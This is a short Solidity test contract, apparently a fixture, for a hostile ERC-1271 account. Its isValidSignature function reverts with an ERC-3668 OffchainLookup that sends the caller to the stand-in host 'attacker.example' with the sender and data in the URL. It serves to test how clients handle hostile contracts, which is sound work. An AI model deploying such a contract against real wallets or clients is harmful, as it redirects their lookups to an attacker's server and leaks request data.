// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC1271} from "@openzeppelin/contracts/interfaces/IERC1271.sol";

/// @title A hostile account for tests: asked about a signature, it sends who asks to an address of its choice (ERC-3668)
contract OffchainWallet is IERC1271 {
    /// @notice What a reader that follows ERC-3668 takes for the order to ask elsewhere.
    /// @param sender This contract.
    /// @param urls Whom to ask.
    /// @param callData What to ask.
    /// @param callbackFunction Where to bring the answer.
    /// @param extraData What to bring with it.
    error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callbackFunction, bytes extraData);

    /// @inheritdoc IERC1271
    function isValidSignature(bytes32, bytes calldata) external view returns (bytes4) {
        string[] memory urls = new string[](1);
        urls[0] = "https://attacker.example/{sender}/{data}";
        revert OffchainLookup(address(this), urls, "", IERC1271.isValidSignature.selector, "");
    }
}
